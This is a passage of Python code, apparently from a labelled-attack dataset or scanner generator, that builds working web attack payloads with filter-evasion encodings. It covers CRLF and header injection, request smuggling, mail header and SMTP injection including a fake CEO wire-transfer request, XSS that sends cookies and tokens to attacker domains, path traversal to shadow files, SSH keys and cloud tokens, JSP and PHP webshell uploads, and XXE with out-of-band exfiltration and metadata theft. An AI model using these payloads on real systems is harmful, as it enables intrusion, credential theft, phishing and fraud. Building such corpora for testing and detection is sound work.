    h.append(A("/home\r\nSet-Cookie: a=b", "json", True, param="returnUrl", enc="ju"))
    h.append(A("en\r\nSet-Cookie: x=y", "xml", True, param="locale", enc="xr"))
    h.append(A("/\r\nLocation: //%s" % d, "query", True, param="next", enc="mixed"))
    h.append(A("\u560a\u560dLocation:%s" % d, "path", True, tpl="/r/{}"))
    h.append(A("%E5%98%8A%E5%98%8DSet-Cookie: test=1", "header", True, hdr="X-Forwarded-Host"))
    h.append(A("%250d%250aSet-Cookie: y=1", "query", True, param="lang"))
    h.append(A("/\r\nSet-Cookie: a=1", "query", True, param="return_to", enc="all"))
    h.append(A("%0D%0ASet-Cookie:%20admin=1", "cookie", True, cookie="return_to"))
    h.append(A("/login\r\n\r\n<svg onload=alert(1)>", "json", True, param="next", deep=10))
    h.append(A(longpad("\r\nBcc-Header-Split: 1\r\nSet-Cookie: z=1"), "json", True, param="note"))
    h.append(A("%c4%8d%c4%8aSet-Cookie: overlong=1", "query", True, param="dest"))
    h.append(A("/x\x0d\x0aSet-Cookie: a=1", "form", True, param="continue", enc="all"))
    h.append(A("%5cr%5cnSet-Cookie: esc=1", "query", True, param="ref"))
    h.append(A("en\u2028Set-Cookie: ls=1\u2029", "query", True, param="locale"))
    h.append(A("/%0dSet-Cookie:cr=1", "header", True, hdr="X-Original-URL"))
    h.append(A("%0aSet-Cookie: lf=1", "path", True, tpl="/lang/{}"))
    h.append(
        A(
            "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost",
            "multipart",
            True,
            param="callback",
        )
    )
    return n, h


# ---------------------------------------------------------------- mail_injection


def specs_mail():
    d = edom()
    spam = ["promo%d@%s" % (rint(1, 99), d) for _ in range(3)]
    n = []
    items = [
        ("victim@gmail.com\r\nBcc: %s" % spam[0], "form", "email"),
        ("Jane Doe\nBcc: %s, %s" % (spam[1], spam[2]), "form", "name"),
        (
            "Hello\r\nContent-Type: text/html; charset=utf-8\r\nMIME-Version: 1.0\r\n\r\n<h1>You won a prize</h1><a href=https://%s/claim>Claim</a>"
            % d,
            "form",
            "subject",
        ),
        ("support@bluefin-dental.com\r\nCc: %s" % spam[0], "json", "reply_to"),
        ('"attacker\\" -oQ/tmp/ -X/var/www/html/shell.php some"@email.com', "form", "email"),
        ("-OQueueDirectory=/tmp -X/var/www/html/rce.php", "form", "from"),
        (
            "user@example.com>\r\nRCPT TO:<%s>\r\nDATA\r\nSubject: pwned\r\n\r\nhi\r\n.\r\nQUIT\r\n" % spam[1],
            "json",
            "email",
        ),
        ('INBOX\r\nA002 LIST "" "*"', "query", "mailbox"),
        ("friend@example.org\r\nTo: %s" % spam[2], "query", "friend_email"),
        (
            'x\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<a href="https://%s/">Reset password</a>\r\n--b--'
            % d,
            "json",
            "name",
        ),
        ("John\r\nbcc: %s" % spam[0], "multipart", "name"),
        ("newsletter@%s\nReply-To: %s" % ("morrow-tea.co", spam[1]), "form", "sender"),
        ("a@b.com\r\nX-Mailer: bulk\r\nBcc: %s" % spam[2], "query", "to"),
        ("me@example.com\r\nSubject: Your account is locked", "cookie", "remember_email"),
        ("Question about booking\r\nBcc: %s" % spam[0], "json", "subject"),
        ("guest@hotmail.com\r\nCC: %s" % spam[1], "xml", "Email"),
        ("noreply@alpenblick-hotel.ch\r\nReturn-Path: <%s>" % spam[2], "form", "from"),
        ("rsvp@example.com\r\nBcc: %s\r\nX-Priority: 1" % spam[0], "json", "recipient"),
        (
            "Dear customer\r\n.\r\nMAIL FROM:<ceo@fieldstone-law.com>\r\nRCPT TO:<cfo@fieldstone-law.com>\r\nDATA\r\nWire 50k today\r\n.\r\n",
            "form",
            "message",
        ),
        ("x@y.com\r\nDisposition-Notification-To: %s" % spam[1], "query", "email"),
        ("ops@packetline.net%0aBcc: " + spam[2], "header", "X-Reply-To"),
        ("support\r\nContent-Transfer-Encoding: base64\r\n\r\nPGgxPmZyZWUgbW9uZXk8L2gxPg==", "json", "name"),
        ("user@example.com\nBcc:%s" % spam[0], "path", None),
        ("Tom\r\nSender: security@packetline.net", "form", "name"),
        ("a@a.com\r\nList-Unsubscribe: <https://%s/u>" % d, "multipart", "email"),
        ("Greetings\r\nIn-Reply-To: <%s@mail.%s>" % (rhex(12), d), "query", "subject"),
        ("recipient@example.com\r\nBcc: %s\r\n" % spam[1], "json", "cc"),
        ("info@%s\r\nTo: all-staff@bluefin-dental.com" % d, "form", "reply_to"),
        ("bob@example.net\r\n Bcc: %s" % spam[2], "query", "recipient"),
        ("A1 SELECT INBOX\r\nA2 FETCH 1:* (BODY[])", "json", "folder"),
    ]
    for v, pl, prm in items:
        kw = {}
        if pl == "header":
            kw["hdr"] = prm
        elif pl == "cookie":
            kw["cookie"] = prm
        elif pl == "path":
            kw["tpl"] = "/invite/{}"
        else:
            kw["param"] = prm
        if pl in ("form", "json") and prm in ("email", "name", "subject", "message"):
            kw.setdefault("path", ch(["/contact/send", "/support/ticket", "/api/share/email"]))
        n.append(A(v, pl, **kw))
    h = []
    h.append(A("=?UTF-8?Q?Bob=0D=0ABcc:_%s?= <bob@example.com>" % spam[0], "form", True, param="name"))
    h.append(A("victim@gmail.com%%0ABcc:%s" % spam[1], "query", True, param="email"))
    h.append(A("victim@gmail.com\r\nBcc: %s" % spam[2], "json", True, param="email", enc="ju"))
    h.append(A("hi@example.com\r\n\tBcc: %s" % spam[0], "form", True, param="reply_to"))
    h.append(
        A(
            "hello\n.\r\nMAIL FROM:<ceo@bluefin-dental.com>\r\nRCPT TO:<billing@bluefin-dental.com>\r\nDATA\r\nFrom: CEO\r\n\r\nPlease pay invoice\r\n.\r\n",
            "json",
            True,
            param="message",
        )
    )
    h.append(A("me@example.com\r\nbCc: %s" % spam[1], "xml", True, param="Email", enc="xr"))
    h.append(A("guest@example.com\r\nCc: %s" % spam[2], "query", True, param="friend_email", enc="mixed"))
    h.append(A("%250d%250aBcc: " + spam[0], "query", True, param="to"))
    h.append(A("Anna\r\nBcc: %s" % spam[1], "json", True, param="name", deep=10))
    h.append(
        A(
            longpad(
                "\r\n.\r\nRSET\r\nMAIL FROM:<admin@rsvpnow.io>\r\nRCPT TO:<%s>\r\nDATA\r\nSubject: hi\r\n\r\nx\r\n.\r\n"
                % spam[2]
            ),
            "json",
            True,
            param="message",
        )
    )
    h.append(A('"a\\"@x.com -fattacker -oQ/tmp -X/tmp/log.php"@example.com', "json", True, param="from"))
    h.append(A("x@x.com\rBcc: %s" % spam[0], "form", True, param="email", enc="all"))
    h.append(A("=?iso-8859-1?B?%s?=" % b64("Jo\r\nBcc: %s" % spam[1]), "form", True, param="name"))
    h.append(A("user@example.com%0d%0aBcc:%20" + spam[2], "header", True, hdr="From"))
    h.append(A("a@b.c\u000bBcc: %s\nX: y" % spam[0], "multipart", True, param="email"))
    h.append(A("Invite\r\nBCC: %s" % spam[1], "json", True, param="subject", enc="jsp"))
    h.append(A("guest@example.com\r\nBcc: %s" % spam[2], "cookie", True, cookie="share_to"))
    h.append(A("%0D%0ACc:%20" + spam[0], "path", True, tpl="/unsubscribe/{}"))
    h.append(
        A(
            "max@example.com\nContent-Type: text/html\n\n<img src=https://%s/t.gif>" % d,
            "multipart",
            True,
            mp="field",
            param="sender",
        )
    )
    h.append(A('foo@example.com,"x\r\nBcc: %s"@example.com' % spam[1], "json", True, param="recipient", enc="jmix"))
    return n, h


# ---------------------------------------------------------------- xss


def specs_xss():
    d, o = edom(), oast()
    svg = (
        '<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="120" height="120" viewBox="0 0 120 120">\n'
        '  <circle cx="60" cy="60" r="50" fill="#3b82f6"/>\n  <script type="text/javascript">fetch("https://%s/c?d="+encodeURIComponent(document.cookie))</script>\n</svg>\n'
        % d
    )
    items = [
        ("<script>alert(document.domain)</script>", "query", "q"),
        ('"><img src=x onerror=alert(1)>', "query", "name"),
        ("<svg onload=fetch('https://%s/c?'+document.cookie)>" % d, "json", "comment"),
        ("javascript:alert(document.cookie)", "query", "redirect"),
        ('<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', "json", "bio"),
        ("<details open ontoggle=alert(1)>", "form", "message"),
        ("';alert(String(document.domain));//", "query", "callback"),
        ("</script><script>alert(1)</script>", "query", "search"),
        ("<body onpageshow=alert(1)>", "json", "title"),
        ("<input autofocus onfocus=alert(1)>", "form", "display_name"),
        ('<video><source onerror="alert(1)"></video>', "json", "text"),
        ('<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', "form", "comment"),
        (svg, "multipart", None),
        ("[Click here to verify](javascript:alert(document.cookie))", "json", "comment"),
        ("<a href=\"javascript:fetch('//%s/'+localStorage.token)\">Verify account</a>" % d, "json", "bio"),
        ("<img src=x onerror=this.src='https://%s/?c='+document.cookie>" % d, "header", "User-Agent"),
        ("<script src=https://%s/x.js></script>" % d, "header", "Referer"),
        ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "path", None),
        ("<x contenteditable onbeforeinput=alert(1)>edit me</x>", "cookie", "username"),
        ("<img src onerror=alert(1)>", "query_key", None),
        (
            '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>',
            "json",
            "message",
        ),
        ("{{constructor.constructor('alert(1)')()}}", "query", "q"),
        (
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "json",
            "text",
        ),
        ('<a href="#" onclick="alert(1)">read more</a>', "xml", "title"),
        ("<marquee onstart=alert(1)>hi</marquee>", "form", "bio"),
        ("<form action=javascript:alert(1)><input type=submit value=Login></form>", "multipart", "bio"),
        ('<base href="https://%s/">' % d, "json", "title"),
        ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "form", "message"),
        (
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
            "json",
            "comment",
        ),
        ('<iframe src="javascript:alert(origin)">', "query", "error"),
    ]
    n = []
    for v, pl, prm in items:
        kw = {}
        if pl == "header":
            kw["hdr"] = prm
        elif pl == "cookie":
            kw["cookie"] = prm
        elif pl == "path":
            kw["tpl"] = "/search/{}"
        elif pl == "multipart" and prm is None:
            kw = dict(mp="file", fname="avatar.svg", fct="image/svg+xml", field="avatar", path="/profile/update")
        elif prm:
            kw["param"] = prm
        n.append(A(v, pl, **kw))
    h = []
    h.append(A("<ScRiPt>alert(1)</sCrIpT>", "query", True, param="q", enc="mixed"))
    h.append(A('<a href="jav&#x09;ascript:alert(1)">profile</a>', "form", True, param="bio"))
    h.append(A("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>", "json", True, param="comment"))
    h.append(A("<svg/onload=alert`1`>", "query", True, param="search"))
    h.append(A("<img src=x onerror=top['al'+'ert'](1)>", "json", True, param="title"))
    h.append(A("<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>", "form", True, param="message"))
    h.append(A("<svg onload=\\u0061lert(1)>", "query", True, param="name"))
    h.append(A("<script>alert(1)</script>", "json", True, param="text", enc="ju"))
    h.append(A("<img src=x onerror=alert(1)>", "xml", True, param="title", enc="xr"))
    h.append(A("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "query", True, param="q"))
    h.append(A("<scr<script>ipt>alert(1)</scr</script>ipt>", "form", True, param="comment"))
    h.append(A("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "json", True, param="bio"))
    h.append(
        A(
            "<img src=x onerror=\"window['ev'+'al'](String.fromCharCode(97,108,101,114,116,40,49,41))\">",
            "multipart",
            True,
            param="bio",
        )
    )
    h.append(
        A(
            "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
            "query",
            True,
            param="redirect",
        )
    )
    h.append(A("<svg><script>&#x61;lert(1)</script></svg>", "json", True, param="message"))
    h.append(A('<iframe src="&#x6A;avascript&colon;alert(1)">', "cookie", True, cookie="flash"))
    h.append(A("<img src=1 onerror=alert(1)>", "json", True, param="text", deep=12))
    h.append(
        A(longpad("<script>new Image().src='//%s/c?'+document.cookie</script>" % d), "json", True, param="comment")
    )
    h.append(A('"><svg/onload=prompt`1`>', "header", True, hdr="X-Forwarded-Host"))
    h.append(A("\\x3cimg src=x onerror=alert(1)\\x3e", "query", True, param="callback", enc="all"))
    return n, h


# ---------------------------------------------------------------- path_traversal


def specs_path():
    n = []
    items = [
        ("../../../../etc/passwd", "query", "file"),
        ("..\\..\\..\\..\\windows\\win.ini", "query", "doc"),
        ("/etc/shadow", "query", "path"),
        ("../../../../proc/self/environ", "query", "page"),
        ("....//....//....//etc/passwd", "query", "filename"),
        ("../../../../../../var/log/nginx/access.log", "form", "log"),
        ("../WEB-INF/web.xml", "path", "/static/{}"),
        ("..;/..;/manager/html", "path", "/static/{}"),
        ("C:\\Windows\\System32\\drivers\\etc\\hosts", "json", "path"),
        ("../../../../home/deploy/.ssh/id_rsa", "json", "file"),
        ("/proc/self/cwd/config.py", "query", "src"),
        ("../../../../etc/passwd\x00.png", "query", "img"),
        ("../../../../../var/www/html/shell.jsp", "multipart", None),
        ("../../../../root/.bash_history", "path", "/files/{}"),
        ("../../.env", "query", "file"),
        ("/../../../../../../etc/hosts", "cookie", "template"),
        ("../../../../usr/local/etc/php/php.ini", "xml", "fileName"),
        ("..\\..\\..\\inetpub\\wwwroot\\web.config", "header", "X-File-Name"),
        ("/var/run/secrets/kubernetes.io/serviceaccount/token", "query", "path"),
        ("../../../../../../../../../../boot.ini", "json", "name"),
        ("../config/database.yml", "form", "template"),
        ("..\\..\\..\\..\\..\\..\\Windows\\repair\\SAM", "path", "/download/{}"),
        ("../../../../../etc/nginx/nginx.conf", "query", "download"),
        ("../config/secrets.yml", "path", "/assets{}"),
        ("../../../../../../opt/app/.git/config", "query", "doc"),
        ("....\\\\....\\\\....\\\\windows\\\\win.ini", "form", "file"),
        ("../../../../../../proc/1/cmdline", "json", "log"),
        ("/etc/passwd", "multipart", "path"),
        ("../../../../../../var/lib/mysql/mysql/user.MYD", "query", "download"),
        ("../../../../../../etc/ssl/private/server.key", "json", "template"),
    ]
    for v, pl, prm in items:
        kw = {}
        if pl == "path":
            kw["tpl"] = prm
            kw["kind"] = ch(["cli", "server"])
        elif pl == "header":
            kw["hdr"] = prm
            kw["method"] = "PUT"
            kw["path"] = "/api/upload"
        elif pl == "cookie":
            kw["cookie"] = prm
        elif pl == "multipart" and prm is None:
            kw = dict(
                mp="filename",
                content='<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>',
                fct="application/octet-stream",
                field="attachment",
                path="/api/upload",
            )
        else:
            kw["param"] = prm
        n.append(A(v, pl, **kw))
    h = []
    h.append(A("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "query", True, param="file"))
    h.append(A("..%c0%af..%c0%af..%c0%afetc/passwd", "query", True, param="path"))
    h.append(A("..%252f..%252f..%252fetc/passwd", "query", True, param="filename"))
    h.append(A("%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/passwd", "query", True, param="page"))
    h.append(A("\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd", "json", True, param="file"))
    h.append(A("..%5c..%5c..%5cwindows%5cwin.ini", "path", True, tpl="/download/{}", kind="cli"))
    h.append(A("../../../../../../etc/passwd", "query", True, param="doc", enc="all"))
    h.append(A("..././..././..././etc/passwd", "form", True, param="template"))
    h.append(A("..\\/..\\/..\\/etc\\/passwd", "json", True, param="path"))
    h.append(A("../../../etc/group", "json", True, param="name", enc="ju"))
    h.append(A("../../../../../proc/self/status", "xml", True, param="fileName", enc="xr"))
    h.append(A("/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "path", True, tpl="/static{}", kind="cli"))
    h.append(A("..;/..;/..;/WEB-INF/web.xml", "path", True, tpl="/assets/{}", enc="mixed", kind="cli"))
    h.append(A("\\\\localhost\\c$\\windows\\win.ini", "query", True, param="src"))
    h.append(A("....//....//....//etc/passwd", "cookie", True, cookie="lang"))
    h.append(A("../../../../etc/shadow", "json", True, param="file", deep=10))
    h.append(
        A(
            "..%2f..%2f..%2fvar%2fwww%2fhtml%2fx.php",
            "multipart",
            True,
            mp="filename",
            content="<?php system($_GET[0]);",
            fct="image/jpeg",
            field="file",
        )
    )
    h.append(A("/static/..%2f..%2f..%2f..%2fetc/passwd", "header", True, hdr="X-Original-URL"))
    h.append(A("..\\..\\..\\WiNdOwS\\sYsTeM32\\cOnFiG\\SaM", "query", True, param="download", enc="mixed"))
    h.append(A("/var/www/images/../../../etc/passwd", "form", True, param="img"))
    return n, h


# ---------------------------------------------------------------- xxe


def utf7(s):
    out = []
    for c in s:
        if c.isalnum() or c in " '(),-./:?\n":
            out.append(c)
        else:
            out.append("+" + base64.b64encode(c.encode("utf-16-be")).decode().rstrip("=") + "-")
    return "".join(out)


def specs_xxe():
    o, ip = oast(), eip()
    n = []
    docs = [
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<order><id>1042</id><note>&xxe;</note></order>',
        '<?xml version="1.0"?>\n<!DOCTYPE data [<!ENTITY %% remote SYSTEM "http://%s/evil.dtd"> %%remote; %%init; %%trick;]>\n<data>1</data>'
        % o,
        '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php">]>\n<methodCall><methodName>&x;</methodName></methodCall>',
        '<?xml version="1.0"?>\n<catalog xmlns:xi="http://www.w3.org/2001/XInclude"><product><name><xi:include parse="text" href="file:///etc/passwd"/></name></product></catalog>',
        '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:ord="http://northwind-logistics.com/orders"><soapenv:Body><ord:GetOrder><ord:orderId>&xxe;</ord:orderId></ord:GetOrder></soapenv:Body></soapenv:Envelope>',
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>\n<lolz>&lol5;</lolz>',
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]>\n<creds><user>&xxe;</user><pass>x</pass></creds>',
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>\n<invoice><number>&xxe;</number></invoice>',
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "jar:http://%s/evil.jar!/x.txt">]>\n<foo>&xxe;</foo>'
        % ip,
        '<?xml version="1.0" ?>\n<!DOCTYPE message [\n    <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n    <!ENTITY % ISOamso \'\n        <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n        <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n        &#x25;eval;\n        &#x25;error;\n    \'>\n    %local_dtd;\n]>\n<message>x</message>',
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<rss version="2.0"><channel><title>My Podcast</title><item><title>&xxe;</title><enclosure url="https://cdn.podwave.fm/e1.mp3" type="audio/mpeg"/></item></channel></rss>',
        '<?xml version="1.0"?>\n<!DOCTYPE methodCall [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>&xxe;</value></param><param><value>pass</value></param></params></methodCall>',
        '<?xml version="1.0"?>\n<!DOCTYPE data [<!ENTITY %% file SYSTEM "file:///etc/hostname"><!ENTITY %% dtd SYSTEM "ftp://%s:2121/oob.dtd">%%dtd;]>\n<data>&send;</data>'
        % ip,
        '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; error SYSTEM \'file:///nonexistent/%file;\'>">%eval;%error;]>\n<d/>',
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "gopher://127.0.0.1:25/_HELO%%20x%%0d%%0aMAIL%%20FROM%%3a%%3cx%%40%s%%3e">]>\n<foo>&xxe;</foo>'
        % o,
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>\n<StockCheck><productId>&xxe;</productId><storeId>1</storeId></StockCheck>',
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n<StockCheck><productId>&xxe;</productId></StockCheck>',
        '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
        '<?xml version="1.0"?>\n<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><out><xsl:value-of select="unparsed-text(\'file:///etc/shadow\')"/></out></xsl:template></xsl:stylesheet>',
        '<?xml version="1.0"?>\n<!DOCTYPE foo PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://%s/x.dtd">\n<foo>bar</foo>'
        % o,
        '<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "http://%s/probe.dtd">\n<x/>' % o,
    ]
    for i, dd in enumerate(docs):
        kw = {}
        if i in (2, 11):
            kw = dict(path="/xmlrpc.php")
        if i == 4:
            kw = dict(
                path="/ws/OrderService", ctype="text/xml; charset=utf-8", headers=[("SOAPAction", '"urn:GetOrder"')]
            )
        if i == 10:
            kw = dict(path="/api/feeds/validate")
        n.append(A(dd, "xml", doc=True, **kw))
    svg = (
        '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
        '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>'
    )
    n.append(A(svg, "multipart", mp="file", fname="logo.svg", fct="image/svg+xml", field="logo"))
    n.append(
        A(
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<plist version="1.0"><dict><key>MessageType</key><string>Authenticate</string><key>DeviceName</key><string>&x;</string></dict></plist>',
            "xml",
            doc=True,
            path="/mdm/checkin",
            host="mdm.accesshub.org",
            ctype="application/x-apple-aspen-mdm-checkin",
        )
    )
    n.append(
        A(
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://%s/ct">]>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="&xxe;"/></Types>'
            % o,
            "multipart",
            mp="file",
            fname="[Content_Types].xml",
            fct="application/xml",
            field="file",
        )
    )
    n.append(
        A(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
            "form",
            param="xml",
            path="/api/v1/parse",
        )
    )
    n.append(
        A(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///proc/self/environ">]><r>&x;</r>',
            "json",
            param="document",
        )
    )
    n.append(
        A(
            '<!DOCTYPE q [<!ENTITY x SYSTEM "file:///etc/passwd">]><q>&x;</q>',
            "query",
            param="xml",
            path="/api/v1/parse",
        )
    )
    n.append(
        A(
            '<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY %% a SYSTEM "http://%s/a.dtd">%%a;]>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title></feed>'
            % o,
            "multipart",
            mp="file",
            fname="feed.xml",
            fct="text/xml",
            field="feed",
        )
    )
    n.append(
        A(
            '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope"><env:Body><m:GetStock xmlns:m="urn:inv"><m:sku>&xxe;</m:sku></m:GetStock></env:Body></env:Envelope>',
            "xml",
            doc=True,
            ctype="application/soap+xml; charset=utf-8",
            path="/services/Inventory",
        )
    )
    n.append(
        A(
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>',
            "multipart",
            mp="file",
            fname="document.xml",
            fct="application/xml",
            field="upload",
        )
    )
    h = []
    u7 = utf7('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>')
    h.append(A('<?xml version="1.0" encoding="UTF-7"?>\n' + u7, "xml", True, doc=True))
    h.append(
        A(
            '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY &#x25; a SYSTEM "http://%s/x.dtd"> &#x25;a;]>\n<r/>' % o,
            "xml",
            True,
            doc=True,
        )
    )
    h.append(
        A(
            '<?xml  version = "1.0" ?>\n<!DOCTYPE\n\tfoo\n\t[\n\t<!ENTITY\n\t\txxe\n\t\tSYSTEM\n\t\t"file:///etc/passwd"\n\t>\n\t]\n>\n<foo>&xxe;</foo>',
            "xml",
            True,
            doc=True,
        )
    )
    saml = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY %% x SYSTEM "http://%s/saml.dtd">%%x;]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0" IssueInstant="2026-12-08T09:12:44Z"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.com</saml:Issuer></samlp:Response>'
        % (o, rhex(32))
    )
    h.append(A(b64(saml), "form", True, param="SAMLResponse", path="/saml/acs", fextra=[("RelayState", "/dashboard")]))
    h.append(
        A(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
            "json",
            True,
            param="xml",
            enc="ju",
        )
    )
    h.append(
        A(
            '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY %% a SYSTEM "http://%s/svg.dtd"> %%a;]>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'
            % o,
            "multipart",
            True,
            mp="file",
            fname="icon.svg",
            fct="image/svg+xml",
            field="icon",
        )
    )
    h.append(
        A(
            '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY %% start "<![CDATA["><!ENTITY %% file SYSTEM "file:///etc/fstab"><!ENTITY %% end "]]>"><!ENTITY %% dtd SYSTEM "http://%s/join.dtd">%%dtd;]>\n<d>&all;</d>'
            % o,
            "xml",
            True,
            doc=True,
        )
    )
    h.append(
        A(
            '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
            "form",
            True,
            param="productId",
            path="/product/stock",
            fextra=[("storeId", "1")],
        )
    )
    h.append(
        A(
            '<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE Foo [<!ENTITY XxE SYSTEM "fiLe:/etc/passwd">]>\n<Foo>&XxE;</Foo>',
            "xml",
            True,
            doc=True,
        )
    )
    h.append(
        A(
            "%3C!DOCTYPE%20x%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Cx%3E%26xxe%3B%3C%2Fx%3E",
            "query",
            True,
            param="xml",
        )
    )
    h.append(
        A(
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>',
            "multipart",
            True,
            mp="file",
            fname="sharedStrings.xml",
            fct="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
            field="sheet",
        )
    )
    h.append(
        A(
            '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % x SYSTEM "http://'
            + o
            + '/x.dtd">\n%x;\n<!ENTITY % y "<!ENTITY &#37; z SYSTEM &#39;http://'
            + o
            + '/?d=&#37;x;&#39;>">\n]>\n<r>&#x26;z;</r>',
            "xml",
            True,
            doc=True,
        )
    )
    h.append(
        A(
            '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd" >]><foo>&xxe;</foo>',
            "json",
